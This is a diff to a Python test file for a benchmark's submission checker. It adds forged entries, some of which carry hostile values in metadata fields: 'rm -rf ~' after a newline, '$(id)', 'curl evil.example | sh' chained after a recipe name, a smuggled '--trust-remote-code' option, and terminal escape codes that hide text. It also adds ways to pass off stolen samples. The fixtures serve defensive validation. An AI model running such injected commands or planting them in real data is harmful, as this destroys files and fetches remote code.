@@ -27,7 +27,7 @@ from ilp_bench.submission.check_vanilla import invention_problems, vanilla_probl
 
 KINDS: dict[str, tuple[str, Change, str, str]] = {}  # name -> kind, change, reason, organisation
 BREAKS, OWN_VANILLA, SAME_HASH, COPIES = "what validates breaks the site", "own vanilla", "same hash", "copies"
-RULES, FILES = "closed rules", "files and output"
+RULES, FILES, SHOWN = "closed rules", "files and output", "shown to readers"
 assert entries  # the fixture of the honest entries
 
 
@@ -363,6 +363,36 @@ def write_five_megabytes(f: Forgery) -> None:
     f.after.append(lambda folder: (folder / "submission.json").write_bytes(b" " * 5 * 2**20))
 
 
+# --- shown to readers, in pages, commands and logs
+
+
+@of_kind(SHOWN, "meta.model")
+def name_a_model_in_two_lines(f: Forgery) -> None:
+    f.content["meta"]["model"] = "model\nrm -rf ~"
+
+
+@of_kind(SHOWN, "meta.org")
+def name_an_organisation_that_a_shell_runs(f: Forgery) -> None:
+    f.content["meta"]["org"] = "$(id)"
+
+
+@of_kind(SHOWN, "training.recipe")
+def name_a_recipe_with_a_second_command(f: Forgery) -> None:
+    for each in trainings(f):
+        each["recipe"] = "resampling; curl evil.example | sh"
+
+
+@of_kind(SHOWN, "training.base.name")
+def name_a_base_with_an_option(f: Forgery) -> None:
+    for each in [*trainings(f), *trainings(f, "vanilla")]:
+        each["base"]["name"] = "x --trust-remote-code\n"
+
+
+@of_kind(SHOWN, "meta.description")
+def describe_with_control_characters(f: Forgery) -> None:
+    f.content["meta"]["description"] = "fine\x1b[2K\x1b[1Aaccepted"
+
+
 def test_every_kind_has_four_members_and_there_are_many() -> None:
     counts = Counter(kind for kind, *_ in KINDS.values())
     assert min(counts.values()) >= 4, counts
@@ -403,7 +433,35 @@ def test_numbers_without_hard_items_are_called_made_up(tmp_path: Path, monkeypat
     assert "less than the 0.1 of any training" in problem
 
 
-def test_the_thief_is_named_and_not_the_older(entries: Entries, tmp_path: Path) -> None:
+def steal_all(f: Forgery) -> None:
+    """Another's samples as they are."""
+
+
+def steal_with_noise(f: Forgery) -> None:
+    p = f.column("p").astype(float) + np.random.default_rng(0).normal(0, 0.003, len(f.table))
+    f.set_p(f.rows(), np.clip(p, 1e-6, 0.9999))
+    f.rescore()
+
+
+def steal_and_improve_a_few(f: Forgery) -> None:
+    f.set_p(f.rows() & (np.arange(len(f.table)) % 40 == 0), 0.97)
+    f.rescore()
+
+
+def block_a_base_by_another_measurement(f: Forgery) -> None:
+    """Own samples of the runs, and a base run under its true hash with other numbers."""
+    p = np.random.default_rng(1).uniform(0.01, 0.99, len(f.table))
+    f.set_p(f.rows(), p)
+    f.set_p(f.rows("base"), np.clip(f.column("p").astype(float) + 0.01, 1e-6, 0.9999))
+    for each in f.content["runs"]:
+        each["model"]["weights_sha256"] = each["model"]["weights_sha256"][::-1]
+    f.rescore()
+
+
+@pytest.mark.parametrize(
+    "theft", [steal_all, steal_with_noise, steal_and_improve_a_few, block_a_base_by_another_measurement]
+)
+def test_the_thief_is_named_and_not_the_older(theft: Change, entries: Entries, tmp_path: Path) -> None:
     """Age is from the earlier state, never from the alphabet."""
     from ilp_bench.submission.check_folder import check_all
 
@@ -411,9 +469,12 @@ def test_the_thief_is_named_and_not_the_older(entries: Entries, tmp_path: Path) 
     shutil.copytree(entries["lab"].parents[1], old)
     thief = Forgery(next(old.glob("rival__*/*")), new)
     thief.content["meta"] |= {"org": "aaa", "model": "fresh"}
+    theft(thief)
     thief.save()
     shutil.copytree(old, new, dirs_exist_ok=True)
-    blamed = [problem.split(":")[0] for problem in check_all([new], old).problems if "has the samples of" in problem]
+    found = check_all([new], old).problems
+    print(*found, sep="\n")
+    blamed = [problem.split(":")[0] for problem in found if "table.csv" not in problem]
     assert blamed
     assert all(f"aaa__fresh/{thief.folder.name}" in name for name in blamed)
 
